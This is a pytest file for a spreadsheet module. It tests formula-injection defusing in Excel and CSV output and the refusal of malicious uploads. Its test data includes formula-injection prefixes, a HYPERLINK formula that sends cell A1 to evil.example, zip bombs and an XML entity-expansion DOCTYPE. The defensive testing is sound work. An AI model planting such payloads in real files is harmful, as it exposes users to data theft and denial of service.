"""Excel and CSV: what is written stays text, what is read is bounded and never believed."""

import csv
import struct
import tracemalloc
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime, time
from decimal import Decimal
from io import BytesIO, StringIO
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from handlers.files import workbooks
from handlers.files.workbooks import Cell, Column, Row, Sheet
from services.errors import Refusal

DANGEROUS = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠a"]
EVIL = '=HYPERLINK("http://evil.example/"&A1,"点击")'


def table(rows: Sequence[Sequence[Cell]], *headings: str, **more: Any) -> Sheet:
    columns = [Column(heading=heading) for heading in headings or ("编号", "内容")]
    return Sheet(name=more.pop("name", "台账"), columns=columns, rows=rows, **more)


def naive(text: str) -> datetime:
    """A moment as Excel has it: without a zone."""
    return datetime.fromisoformat(text)


def opened(*sheets: Sheet) -> Any:
    return openpyxl.load_workbook(BytesIO(workbooks.write_workbook(sheets)))


# -- writing ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*DANGEROUS, EVIL, " =1", "http://evil.example", "\0=1"])
def test_text_is_never_a_formula_or_a_link(text: str) -> None:
    page = opened(table([[1, text]], title=text, notes=[text])).active
    for cell in (page["A1"], page["A2"], page["B4"]):
        assert cell.data_type == "s"
        assert cell.hyperlink is None
    assert page["B4"].quotePrefix == (text != "http://evil.example")


def test_the_value_of_a_cell_is_not_altered_by_its_defence() -> None:
    page = opened(table([[1, text] for text in DANGEROUS])).active
    values = [row[1].value for row in page.iter_rows(min_row=2)]
    assert [value.replace("_x000D_", "\r") for value in values] == DANGEROUS


def test_values_keep_their_kind() -> None:
    moment = datetime(2026, 11, 24, 16, 30, tzinfo=UTC)
    values: list[Cell] = [3, 2.5, Decimal("0.1"), True, None, "", date(2026, 2, 28), time(9, 5)]
    values += [moment, naive("2026-01-02 03:04"), float("nan"), 420106199001011234, "00123"]
    page = opened(table([values], *(f"列{n}" for n in range(len(values))))).active
    cells = [cell.value for cell in page[2]]
    assert cells[:6] == [3, 2.5, 0.1, True, None, None]
    assert cells[6:8] == [naive("2026-02-28"), time(9, 5)]
    assert cells[8:10] == [naive("2026-11-25 00:30"), naive("2026-01-02 03:04")]
    assert cells[10:] == [None, "420106199001011234", "00123"]


def test_a_sheet_is_ready_to_read_and_print() -> None:
    columns = [
        Column(heading="编号", width=18),
        Column(heading="问题描述"),
        Column(heading="率", number_format="0.0%"),
    ]
    rows: list[list[Cell]] = [["东湖-26-0137", "楼道灯不亮" * 30, 0.875]]
    sheet = Sheet(name="台账", columns=columns, rows=rows, title="整改台账", notes=["密级:内部"])
    page = opened(sheet).active
    assert [page["A1"].value, page["A2"].value, page["A3"].value] == [
        "整改台账",
        "密级:内部",
        "编号",
    ]
    assert page.freeze_panes == "A4"
    assert page.auto_filter.ref == "A3:C4"
    assert page.column_dimensions["A"].width == pytest.approx(18, abs=1)
    assert 20 < page.column_dimensions["B"].width < 50
    assert page["C4"].number_format == "0.0%"
    assert page["A3"].font.bold
    assert page.print_title_rows == "$3:$3"
    assert page.page_setup.orientation == "landscape"


def test_sheet_names_are_made_fit_and_unlike() -> None:
    names = ["社区/台账:1", "社区 台账 1", "x" * 40, "X" * 31, "", "'a'", "History", "[a]*?\\"]
    found = opened(*(table([], name=name) for name in names)).sheetnames
    assert len({name.lower() for name in found}) == len(names)
    assert all(len(name) <= 31 for name in found)
    assert found[0] == "社区 台账 1"


def test_an_empty_table_and_a_ragged_one() -> None:
    page = opened(table([])).active
    assert page.auto_filter.ref == "A1:B1"
    assert [cell.value for cell in opened(table([[1], [1, 2, 3]])).active[3]] == [1, 2, 3]
    with pytest.raises(ValueError, match="sheet"):
        workbooks.write_workbook([])


def test_text_beyond_a_cell_is_cut_and_half_characters_are_replaced() -> None:
    page = opened(table([["长" * 40_000, "a\ud83db"], ["\x07bell", "_x0041_"]])).active
    assert len(page["A2"].value) == 32_767
    assert page["A2"].value.endswith("长…")
    assert page["B2"].value == "a?b"
    assert workbooks.read_workbook(workbooks.write_workbook([table([["_x0041_"]])]))


def test_csv_opens_as_utf8_and_defuses_formulas() -> None:
    data = workbooks.write_csv(["编号", "内容"], [[text, -2] for text in (*DANGEROUS, EVIL)])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["编号", "内容"]
    assert [row[0] for row in rows[1:]] == [f"'{text}" for text in (*DANGEROUS, EVIL)]
    assert {row[1] for row in rows[1:]} == {"-2"}


def test_csv_writes_moments_and_blanks() -> None:
    moment = datetime(2026, 11, 24, 16, 30, tzinfo=UTC)
    data = workbooks.write_csv(["a"], [[moment, date(2026, 1, 2), time(9), None, True, 0.5]])
    assert data.decode("utf-8-sig").splitlines()[1] == (
        "2026-11-25 00:30,2026-01-02,09:00:00,,True,0.5"
    )


# -- reading ------------------------------------------------------------------------------------


def zipped(parts: dict[str, bytes], source: bytes | None = None) -> bytes:
    """A workbook with some parts replaced or added."""
    file = BytesIO()
    source = source or workbooks.write_workbook([table([["1", "2"]])])
    with zipfile.ZipFile(BytesIO(source)) as old, zipfile.ZipFile(file, "w", 8) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, body in parts.items():
            new.writestr(name, body)
    return file.getvalue()


def sheet_xml(cells: str, before: str = "") -> dict[str, bytes]:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    xml = f'{before}<worksheet xmlns="{space}"><sheetData>{cells}</sheetData></worksheet>'
    return {"xl/worksheets/sheet1.xml": xml.encode()}


def refused(data: bytes) -> tuple[str, dict[str, Any]]:
    with pytest.raises(Refusal) as no:
        workbooks.read_workbook(data)
    return no.value.code, no.value.params


def test_rows_are_read_with_their_numbers_and_blanks_left_out() -> None:
    rows: list[list[Cell]] = [[" 东湖 ", 3], [None, None], ["  ", ""], [13812345678, 2.5]]
    [sheet] = workbooks.read_workbook(workbooks.write_workbook([table(rows)]))
    assert sheet.name == "台账"
    assert sheet.rows == (
        Row(1, ("编号", "内容")),
        Row(2, ("东湖", 3)),
        Row(5, (13812345678, 2.5)),
    )


def test_every_sheet_is_read_and_dates_stay_dates() -> None:
    moment = naive("2026-01-02 03:04")
    sheets = [table([[date(2026, 2, 28), moment]]), table([[time(9, 30), True]], name="二")]
    first, second = workbooks.read_workbook(workbooks.write_workbook(sheets))
    assert first.rows[1].cells == (date(2026, 2, 28), moment)
    assert (second.name, second.rows[1].cells) == ("二", (time(9, 30), True))


def test_a_book_of_another_program_and_its_formulas_are_read() -> None:
    book = openpyxl.Workbook()
    book.active.append(["名称", "=1+1", "合\r\n并"])
    book.active["C7"] = "#N/A"
    file = BytesIO()
    book.save(file)
    [sheet] = workbooks.read_workbook(file.getvalue())
    assert sheet.rows[0].cells == ("名称", None, "合\n并")


@given(
    st.lists(st.lists(st.text(st.characters(codec="utf-8"), max_size=20), min_size=1), max_size=5)
)
@settings(max_examples=30, deadline=None)
def test_what_is_written_is_read(rows: list[list[str]]) -> None:
    [sheet] = workbooks.read_workbook(workbooks.write_workbook([table(rows)]))
    found = {row.number: row.cells for row in sheet.rows}
    for number, row in enumerate(rows, start=2):
        for at, text in enumerate(row):
            plain = text.replace("\r\n", "\n").strip()
            if plain.isprintable() or not plain:
                read = dict(enumerate(found.get(number, ()))).get(at)
                assert read == (plain or None)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"", "unknown"),
        (b"PK\x03\x04", "unknown"),
        ("编号,内容\n".encode(), "unknown"),
        (b"<html><table>", "unknown"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "xls"),
        (zipped({"xl/workbook.xml": b"<broken"}), "unknown"),
        (zipped(sheet_xml("<row><c r='XX'><v>1</v></c></row>")), "unknown"),
    ],
)
def test_what_is_no_workbook_is_refused(data: bytes, kind: str) -> None:
    assert refused(data) == ("files.not_a_workbook", {"kind": kind})


def test_another_zip_is_refused() -> None:
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    assert refused(file.getvalue()) == ("files.not_a_workbook", {"kind": "zip"})


def test_a_truncated_or_flipped_workbook_is_refused() -> None:
    data = workbooks.write_workbook([table([["一", "二"]] * 50)])
    assert refused(data[: len(data) // 2])[0] == "files.not_a_workbook"
    at = data.index(b"xl/worksheets/sheet1.xml") + 60
    assert refused(data[:at] + b"\xff" * 40 + data[at + 40 :])[0] == "files.not_a_workbook"


def test_a_protected_workbook_is_refused() -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    assert refused(ole + "EncryptedPackage".encode("utf-16-le")) == ("files.protected", {})
    locked = bytearray(workbooks.write_workbook([table([])]))
    at = -1
    while (at := locked.find(b"PK\x01\x02", at + 1)) >= 0:
        locked[at + 8] |= 1  # the flag that says: needs a password
    assert refused(bytes(locked)) == ("files.protected", {})


def test_too_large_a_file_is_refused_unread() -> None:
    assert refused(b"PK\x03\x04" + bytes(workbooks.MAX_BYTES)) == (
        "files.too_large",
        {"limit_mb": 10},
    )


def test_bombs_are_refused_before_unpacking() -> None:
    spaces = zipped({f"xl/{n}.xml": b" " * 60_000_000 for n in range(2)})
    dense = zipped({"xl/a.xml": b" " * 40_000_000})
    many = zipped({f"xl/media/{n}": b"" for n in range(600)})
    assert len(spaces) < 200_000
    tracemalloc.start()
    for bomb in (spaces, dense, many):
        assert refused(bomb) == ("files.bomb", {})
    assert tracemalloc.get_traced_memory()[1] < 5_000_000
    tracemalloc.stop()


def test_a_size_that_lies_is_found_out() -> None:
    data = bytearray(zipped({"xl/worksheets/sheet1.xml": b" " * 30_000_000}))
    at = data.rindex(b"xl/worksheets/sheet1.xml")
    assert struct.unpack("<I", data[at - 22 : at - 18]) == (30_000_000,)
    data[at - 22 : at - 18] = struct.pack("<I", 100)
    tracemalloc.start()
    assert refused(bytes(data))[0] == "files.not_a_workbook"
    assert tracemalloc.get_traced_memory()[1] < 2_000_000
    tracemalloc.stop()


def test_a_packing_that_excel_does_not_know_is_refused() -> None:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    assert refused(file.getvalue()) == ("files.not_a_workbook", {"kind": "unknown"})


def test_entities_are_refused() -> None:
    laughs = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
    assert refused(zipped(sheet_xml("<row/>", laughs))) == ("files.bomb", {})


FAR = '<row r="1"><c r="A1"><v>1</v></c></row><row r="{row}"><c r="XFD{row}"><v>1</v></c></row>'


@pytest.mark.parametrize(
    "cells",
    [
        FAR.format(row=1_048_576),
        FAR.format(row=1_048_576).lower().replace("xfd", "xfd"),
        '<!-- <c " --><row r="9999"><c x=">" r="XFD9999"><is><t>x</t></is></c></row>',
        '<x:row xmlns:x="y" r="99999"><x:c r="ZZ99999"><x:v>1</x:v></x:c></x:row>',
        '<row r="1048576"><c><v>1</v></c><c><v>1</v></c></row>',
    ],
)
def test_a_value_in_a_far_corner_is_refused_before_room_is_made(cells: str) -> None:
    assert refused(zipped(sheet_xml(cells))) == ("files.too_many_cells", {"limit": 1_000_000})


def test_many_wide_sheets_count_together() -> None:
    [part] = sheet_xml('<row r="900"><c r="ALL900"><v>1</v></c></row>').values()
    book = workbooks.write_workbook([table([], name=str(n)) for n in range(3)])
    parts = {f"xl/worksheets/sheet{n}.xml": part for n in (1, 2, 3)}
    assert refused(zipped(parts, book))[0] == "files.too_many_cells"


def test_formats_down_to_the_last_row_are_no_values() -> None:
    cells = '<row r="1"><c r="A1"><v>7</v></c></row><row r="1048576"><c r="XFD1048576"/></row>'
    [sheet] = workbooks.read_workbook(zipped(sheet_xml(cells)))
    assert sheet.rows == (Row(1, (7,)),)
